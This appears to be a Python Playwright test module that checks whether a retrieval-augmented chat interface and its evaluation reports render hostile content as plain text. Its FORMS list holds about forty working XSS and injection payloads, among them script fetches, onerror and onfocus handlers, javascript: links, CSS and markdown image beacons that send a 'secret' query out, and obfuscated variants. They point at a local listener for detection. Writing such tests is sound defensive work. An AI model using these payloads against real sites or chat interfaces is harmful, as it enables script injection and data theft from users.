"""What documents, people and models write, shown in a real browser: rows 31 and 32."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

from playwright.sync_api import Browser, Dialog, Page, Request, sync_playwright

from rag.errors import ConfigError
from rag.evaluation.report import comparison_report
from rag.types import (
    Answer,
    Document,
    Part,
    Removed,
    Role,
    Source,
    Span,
    Statement,
    Status,
    Turn,
)
from tests.reliability.row import Outcome as Found
from tests.reliability.row import Run
from tests.ui.conftest import CHROMIUM, FLAGS, Tab, serving
from tests.ui.fakes import LANDMINES, FakeLibrary, abstained, answered, citation, document

FORMS = (
    "<script>fetch('{0}/s')</script>",
    "<img src={0}/i onerror=alert(1)>",
    "<img src=x onerror=\"fetch('{0}/e')\">",
    "![seen]({0}/m?q=secret)",
    "![seen][r]\n\n[r]: {0}/r",
    "[a link](javascript:alert(1))",
    "[a link]({0}/l)",
    "<a href={0}/a autofocus onfocus=alert(1) tabindex=1>x</a>",
    '<div style="position:fixed;inset:0;background:url({0}/d)">over all</div>',
    "<form action={0}/f><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<iframe src={0}/if></iframe>",
    "<iframe srcdoc=\"<img src='{0}/sd'>\"></iframe>",
    "<object data={0}/o></object>",
    "<embed src={0}/em>",
    "<video src={0}/v poster={0}/p autoplay></video>",
    "<audio src={0}/au autoplay></audio>",
    "<svg onload=alert(1)><image href={0}/sv /></svg>",
    "<svg><use href={0}/u#x /></svg>",
    "<math><mtext><img src={0}/ma></mtext></math>",
    "<link rel=stylesheet href={0}/c>",
    "<style>@import '{0}/st'; *{{display:none}}</style>",
    "<meta http-equiv=refresh content='0;url={0}/me'>",
    "<base href={0}/>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><img src={0}/t></template>",
    "<noscript><img src={0}/n></noscript>",
    "<!--><img src={0}/k>-->",
    "</mark></article></section></div><h1>not ours</h1><img src={0}/z>",
    '" onmouseover="alert(1)" style="background:url(\'{0}/q\')"',
    "' autofocus onfocus='alert(1)",
    "&lt;img src={0}/ent onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "$$\\href{{javascript:alert(1)}}{{x}} \\includegraphics{{{0}/tex}}$$",
    "```mermaid\ngraph TD; A[\"<img src='{0}/mm'>\"]\n```",
    "| a |\n|---|\n| ![x]({0}/tab) |",
    "<{0}/auto> www.example.com {0}/bare",
    "{{{{constructor.constructor('alert(1)')()}}}} ${{alert(1)}}",
    "\u202e<img src={0}/bidi>\u2066\x00<scr\x00ipt>alert(1)</script>",
)
ELEMENTS = (
    ":is(.prose, .example) :is(img, form, iframe, object, embed, video, audio, style, script, svg, "
    "math, link, meta, base, table, h1, pre, code, .katex, .mermaid, input, marquee, template, "
    "[style*='fixed'], [style*='url'], [onerror], [onload], [onfocus], [onmouseover], [ontoggle])"
)
WRITTEN, TABLE, FAILS = "What is written?", "What is in the table?", "What fails?"


class Hostile(FakeLibrary):
    """A library in which `payload` stands wherever something is not ours."""

    def __init__(self, payload: str) -> None:
        super().__init__()
        self.payload = payload
        text = f"Before. {payload} After.\n\nHead | {payload}\nCell | {payload}\n"
        table = Part(Span(text.index("Head"), len(text)), Role.TABLE, len(f"Head | {payload}"))
        about = {"title": payload, "path": f"{payload}.txt", "speaker": payload, "parts": (table,)}
        self.source: Document = document(text, publisher=payload, **about)

    def ask(self, question: str, history: Sequence[str | Turn] = (), **choice: object) -> Answer:
        cited = citation(self.source, self.payload)
        if question == FAILS:
            raise ConfigError(self.payload)
        if question == WRITTEN:
            said = Statement(self.payload, (1,), Status.WEAK, self.payload, self.payload)
            return replace(
                answered(question, [cited]), statements=(said,), written_by=self.payload,
                notes=(self.payload,), removed=(Removed(self.payload, self.payload),),
            )  # fmt: skip
        if question == TABLE:
            return answered(question, [citation(self.source, f"Cell | {self.payload}")], [cited])
        return abstained(question, [cited], self.payload)

    def sources(self) -> Sequence[Source]:
        return [Source(self.payload, "d", self.payload, 1, 1, note=self.payload)]

    def examples(self) -> Sequence[str]:
        return [self.payload]


def hostile_pages(run: Run) -> Found:
    """Attacks in documents, names, questions, answers, errors and reports are shown as text."""
    if CHROMIUM is None:
        return Found(absent="there is no Chromium on this machine")
    found = Found()
    with sync_playwright() as playwright, listening() as (port, heard):
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        payloads = [form.format(f"http://127.0.0.1:{port}") for form in FORMS]
        tried = payloads[:: run.count(20, 1)]
        for payload in tried:
            with serving(Hostile(payload)) as address:
                for bypass in (False, True):
                    with found.trial(f"{payload!r}, policy {'off' if bypass else 'on'}"):
                        _shown(browser, address, payload, bypass=bypass)
                        assert not heard, heard[:3]
        with found.trial("evaluation reports"):
            _reported(browser, run.folder, tried)
            assert not heard, heard[:3]
        browser.close()
    found.figures |= {"payloads": len(tried), "places": 8, "requests to elsewhere": len(heard)}
    return found


def ordinary_pages(run: Run) -> Found:
    """The page's ordinary use breaks no rule of its own policy."""
    if CHROMIUM is None:
        return Found(absent="there is no Chromium on this machine")
    found = Found()
    with sync_playwright() as playwright, serving(FakeLibrary()) as address:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        for number in range(run.count(1, 20)):
            with found.trial(f"visit {number}"):
                tab = Tab(browser.new_context(), address)
                tab.ask(LANDMINES)
                tab.page.locator("#answer-1 .foot").wait_for()
                tab.page.locator("#answer-1 a.cite").first.click()
                tab.page.locator("#cite-1-1").wait_for()
                tab.page.get_by_role("button", name="New conversation").click()
                tab.page.locator("#chat .question").wait_for(state="detached")
                assert not tab.complaints, tab.complaints[:3]
                assert not tab.strays, tab.strays[:3]
                tab.page.context.close()
        browser.close()
    return found


def _shown(browser: Browser, address: str, payload: str, *, bypass: bool) -> None:
    tab = Tab(browser.new_context(bypass_csp=bypass), address)
    try:
        tab.page.locator("#chat .example").first.wait_for()
        before = tab.page.locator(ELEMENTS).count()
        for number, question in enumerate((WRITTEN, TABLE, payload), 1):
            tab.ask(question)
            tab.page.locator(f"#evidence-{number}").wait_for()
            tab.page.locator("#ask").wait_for()
        tab.page.locator("#shelf button").first.click()
        tab.page.locator("#shelf-boxes input").first.check()
        tab.page.locator("#scope-line .scope").wait_for()
        tab.ask(FAILS)
        tab.page.locator("#chat .notice").last.wait_for()
        tab.page.wait_for_timeout(200)
        assert not tab.strays, tab.strays[:3]
        assert not tab.dialogs, tab.dialogs[:3]
        assert tab.page.locator(ELEMENTS).count() == before
    finally:
        tab.page.context.close()


def _reported(browser: Browser, folder: Path, payloads: Sequence[str]) -> None:
    """A comparison of two runs, with attacks for names and questions."""
    gained = {"question": "", "id": "", "kind": "", "measures": {}}
    changes = [{**gained, "question": each, "id": each, "kind": each} for each in payloads]
    figure = {"first": 0.1, "second": 0.2, "difference": 0.1, "low": 0.0, "high": 0.2, "n": 1}
    made = {
        "questions": 1, "first": payloads[0], "second": payloads[-1], "partial": (True, True),
        "unpaired": (0, 0), "seed": 1, "measures": dict.fromkeys(payloads, figure),
        "worse": changes, "better": changes,
    }  # fmt: skip
    file = folder / "report.html"
    file.write_text(comparison_report(made), "utf-8", "replace")
    for bypass in (False, True):
        context = browser.new_context(bypass_csp=bypass)
        page = context.new_page()
        seen = _events(page)
        page.goto(file.as_uri())
        page.wait_for_timeout(500)
        assert seen == [file.as_uri()]
        assert page.locator("img, script, iframe, form, object, embed, video, svg").count() == 0
        context.close()


def _events(page: Page) -> list[str]:
    """What it asks for and which dialogs it opens, from now on."""
    seen: list[str] = []

    def requested(request: Request) -> None:
        seen.append(request.url)

    def opened(dialog: Dialog) -> None:
        seen.append(dialog.message)
        dialog.dismiss()

    page.on("request", requested)
    page.on("dialog", opened)
    return seen


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A port of this machine, and what was heard there."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def hear() -> None:
            while True:
                try:
                    client, _ = server.accept()
                except OSError:
                    return
                with client:
                    heard.append(client.recv(1_000))

        threading.Thread(target=hear, daemon=True).start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)
